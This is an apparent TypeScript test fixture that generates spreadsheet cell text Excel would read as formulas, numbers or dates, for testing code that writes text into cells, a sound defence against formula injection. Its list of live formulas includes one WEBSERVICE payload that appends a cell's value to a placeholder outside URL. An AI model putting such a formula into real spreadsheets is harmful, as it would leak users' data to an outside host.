/** Texts that Excel would read as something else if they were typed, for properties of everything that writes text. */
import fc from "../tooling/properties";

const LIVE = [
  '=WEBSERVICE("http://example.org/?"&A1)',
  "=1+1",
  "＝1+1",
  "＝SUM(A1:A9)",
  "+1",
  "+A1",
  "-A1+1",
  "－1",
  "@SUM(A1:A9)",
  "＠SUM(1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\n-1",
  "'",
  "'=1+1",
  "''1",
];
const NUMBERS = [
  "00123",
  "1,234",
  "１２３",
  "80%",
  "(8)",
  "（8）",
  "1e5",
  "¥5",
  "￥5",
  "$1",
  "1 1/2",
  "true",
  "TRUE",
];
const DATES = [
  "1-2",
  "1/2",
  "2020-12",
  "2020年1月2日",
  "1月2日",
  "上午9:30",
  "下午3时20分",
  "9:30",
  "２０２０-１-２",
];
const PLAIN = [
  "",
  "台上镇",
  "党建带关建",
  "（一）组织",
  "第1季度",
  "#N/A",
  "=".repeat(300),
  `一${"长".repeat(299)}`,
];

const start = fc.constantFrom(
  "=",
  "＝",
  "+",
  "-",
  "@",
  "'",
  "\t",
  "\r",
  " ",
  "1",
  "0",
  "（",
  "上午",
  "甲",
  "&",
  "",
);

/** One of the known ones, or any text behind a sign that begins something. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...LIVE, ...NUMBERS, ...DATES, ...PLAIN),
  fc
    .tuple(
      start,
      fc.string({ unit: fc.constantFrom("1", "A", "(", ")", "-", "/", ":", "年", "月", "+", "&", "P", ",") }),
    )
    .map((parts) => parts.join("")),
);

/** Number formats of cells that text is written into; undefined for none. */
export const anyFormat: fc.Arbitrary<string | undefined> = fc.constantFrom(
  undefined,
  "@",
  "General",
  "0",
  "#,##0.00",
  "0.00%",
  "yyyy-mm-dd",
  'yyyy"年"m"月"',
  "h:mm",
  '0.0"万元"',
);
